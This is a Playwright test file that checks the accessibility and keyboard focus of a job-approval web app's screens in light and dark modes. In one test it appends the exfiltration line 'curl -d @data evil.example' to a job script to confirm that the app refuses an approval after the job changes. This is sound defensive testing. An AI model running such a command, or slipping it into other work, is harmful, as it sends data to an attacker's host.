import { appendFile, mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { endProcess, startServer } from '../app.ts';
import { type Box, bashJob, OWNER } from '../box.ts';
import { expect, openJob, test } from './practice.ts';
import { faultsOf, focusStops } from './screen-checks.ts';

const SIZES = [
  { width: 1360, height: 860 },
  { width: 1000, height: 640 },
] as const;

// Every screen is looked at in one go; axe alone takes a second for each.
test.describe.configure({ timeout: 180_000 });

for (const colorScheme of ['light', 'dark'] as const) {
  for (const viewport of SIZES) {
    test.describe(`${colorScheme}, ${viewport.width} × ${viewport.height}`, () => {
      test.use({ colorScheme, viewport });

      test('every screen around jobs', async ({ practice }) => {
        await checkJob(practice);
        await checkDeciding(practice);
      });

      test('every other screen', async ({ practice }) => {
        await checkPlaces(practice);
        await checkPermissions(practice);
        await checkWithdrawing(practice);
        await checkKeySheet(practice);
        await checkFruitlessSearch(practice);
      });

      test('the screens before there is a job to show', async ({ browser, box, start }) => {
        await checkNoDatasite((await start([])).page);
        const { page } = await start(['--box', box.folder, '--owner', OWNER]);
        await expect(page.getByText('Nothing waits')).toBeVisible();
        await checkScreen(page, 'an empty inbox');
        const stranger = await browser.newPage({ colorScheme, viewport });
        await checkSignedOut(stranger, page.url());
      });

      test('several datasites, a job that changes, and a lost connection', async ({ box, browser }) => {
        const page = await browser.newPage({ colorScheme, viewport });
        await checkMishaps(page, box);
        await page.close();
      });
    });
  }

  test.describe(`${colorScheme}, by keyboard`, () => {
    test.use({ colorScheme });

    test('the focus can be seen wherever it goes', async ({ practice }) => {
      await openJob(practice, /^Readmission rates by ward/);
      for (const item of await railOf(practice).all()) {
        await item.click();
        await checkFocus(practice, (await item.textContent()) ?? '');
      }
    });
  });
}

async function checkJob(page: Page): Promise<void> {
  await openJob(page, /^Readmission rates by ward/);
  for (const tab of await page.getByRole('tab').all()) {
    await tab.click();
    await expect(page.getByRole('tabpanel')).toBeVisible();
    await checkScreen(page, `a job, ${await tab.textContent()}`);
  }
  for (const name of [/^Quarterly export/, /^Lab turnaround times/]) {
    await openJob(page, name);
    await checkScreen(page, `a hostile job ${name.source}`);
  }
}

async function checkDeciding(page: Page): Promise<void> {
  await openJob(page, /^Readmission rates by ward/);
  await page.getByRole('button', { name: 'Approve', exact: true }).click();
  await expect(page.getByRole('group', { name: 'Confirm the approval' })).toBeVisible();
  await checkScreen(page, 'the confirmation');
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Reject…' }).click();
  await expect(page.getByRole('dialog', { name: 'Reject this job' })).toBeVisible();
  await checkScreen(page, 'the reject dialog');
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'More' }).click();
  await expect(page.getByRole('menu')).toBeVisible();
  await checkScreen(page, 'the menu of what is seldom needed');
  await page.keyboard.press('Escape');
}

async function checkPlaces(page: Page): Promise<void> {
  await openJob(page, /^count_customers/);
  await page.getByRole('button', { name: 'Reject…' }).click();
  await page.getByRole('textbox', { name: 'Reason' }).fill('Too broad: name the columns, please.');
  await page.getByRole('dialog').getByRole('button', { name: 'Reject' }).click();
  await expect(page.getByRole('button', { name: /Rejected 2/ })).toBeVisible();
  for (const item of await railOf(page).all()) {
    await item.click();
    await expect(item).toHaveAttribute('aria-current', 'page');
    await checkScreen(page, (await item.textContent()) ?? '');
  }
  await goTo(page, 'Activity');
  await page.getByRole('button', { name: 'Verify' }).click();
  await expect(page.getByText(/The log adds up/)).toBeVisible();
  await checkScreen(page, 'a log that was checked');
}

async function checkPermissions(page: Page): Promise<void> {
  await goTo(page, 'Permissions');
  await page.getByRole('combobox', { name: 'Person' }).fill('bob@lab.example');
  await page.getByRole('radio', { name: 'Write' }).check({ force: true });
  await page.getByRole('textbox', { name: 'Folder or file' }).fill('app_data/job/inbox');
  await expect(page.getByRole('region', { name: 'Answer' })).toContainText('No');
  await checkScreen(page, 'an answer about permissions');
  await page.getByRole('tab', { name: 'Everything they can reach' }).click();
  await expect(page.getByRole('list', { name: 'Everything this person can reach' })).toBeVisible();
  await checkScreen(page, 'everything somebody can reach');
  await page.getByRole('tab', { name: 'One folder or file' }).click();
  await page.getByRole('button', { name: 'Grant…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Grant access' });
  await expect(dialog.getByText('What changes for whom')).toBeVisible();
  await checkScreen(page, 'a change of permissions before it is made');
  await page.keyboard.press('Escape');
}

async function checkWithdrawing(page: Page): Promise<void> {
  await goTo(page, 'Inbox');
  await page.getByRole('button', { name: /^Approved/ }).click();
  await openJob(page, /^ed_waiting_times/);
  await page.getByRole('button', { name: 'Withdraw…' }).click();
  await expect(page.getByRole('dialog', { name: 'Withdraw this approval' })).toBeVisible();
  await checkScreen(page, 'the withdrawal');
  await page.keyboard.press('Escape');
}

async function checkKeySheet(page: Page): Promise<void> {
  await page.keyboard.press('?');
  await expect(page.getByRole('dialog', { name: 'Keys' })).toBeVisible();
  await checkScreen(page, 'the sheet of keys');
  await page.keyboard.press('Escape');
}

async function checkFruitlessSearch(page: Page): Promise<void> {
  await goTo(page, 'Inbox');
  await page.getByRole('searchbox').fill('nothing is called like this');
  await expect(page.getByText('No job fits')).toBeVisible();
  await checkScreen(page, 'a search without result');
}

async function checkNoDatasite(page: Page): Promise<void> {
  await expect(page.getByRole('heading', { name: 'Whose datasite is this?' })).toBeVisible();
  await checkScreen(page, 'no datasite found');
  await page.getByRole('textbox', { name: 'SyftBox folder' }).fill('/nowhere');
  await page.getByRole('textbox', { name: 'Owner’s address' }).fill(OWNER);
  await page.getByRole('button', { name: 'Open', exact: true }).click();
  await expect(page.getByRole('alert')).toBeVisible();
  await checkScreen(page, 'a folder that is not there');
  await checkFocus(page, 'no datasite found');
}

async function checkSignedOut(page: Page, address: string): Promise<void> {
  await page.goto(new URL('/', address).href);
  await expect(page.getByRole('heading', { name: 'You are not signed in' })).toBeVisible();
  await checkScreen(page, 'signed out');
  await page.close();
}

async function checkMishaps(page: Page, box: Box): Promise<void> {
  await box.submit('swapped', bashJob('echo harmless\n'));
  await mkdir(join(box.folder, 'second@hospital.example', 'app_data', 'job', 'inbox'), { recursive: true });
  const { child, url } = await startServer([], { HOME: box.folder, SYFTBOX_FOLDER: box.folder });
  try {
    await page.goto(url);
    await page.getByRole('button', { name: `Open ${OWNER}` }).waitFor();
    await checkScreen(page, 'several datasites found');
    await page.getByRole('button', { name: `Open ${OWNER}` }).click();
    await checkSwap(page, box);
    await endProcess(child);
    await expect(page.getByText('The connection to Gatehouse is lost.')).toBeVisible();
    await checkScreen(page, 'a lost connection');
  } finally {
    await endProcess(child);
  }
}

async function checkSwap(page: Page, box: Box): Promise<void> {
  await openJob(page, /^swapped/);
  await expect(page.getByText('echo harmless')).toBeVisible();
  await page.getByRole('button', { name: 'Approve', exact: true }).click();
  await appendFile(box.path('swapped', 'run.sh'), 'curl -d @data evil.example\n');
  const question = page.getByRole('group', { name: 'Confirm the approval' });
  await question.getByRole('button', { name: /Approve/ }).click();
  await expect(page.getByRole('dialog')).toContainText('curl -d @data evil.example');
  await checkScreen(page, 'a decision refused because the job changed');
  await page.keyboard.press('Escape');
}

function railOf(page: Page) {
  return page.getByRole('navigation', { name: 'Screens' }).getByRole('button');
}

async function goTo(page: Page, name: string): Promise<void> {
  const item = railOf(page).filter({ hasText: name });
  await item.click();
  await expect(item).toHaveAttribute('aria-current', 'page');
}

async function checkScreen(page: Page, name: string): Promise<void> {
  expect.soft(await faultsOf(page), name).toEqual([]);
}

async function checkFocus(page: Page, name: string): Promise<void> {
  const { all, unseen } = await focusStops(page);
  expect.soft(unseen, `the focus on: ${name}`).toEqual([]);
  expect(all.length).toBeGreaterThan(3);
}
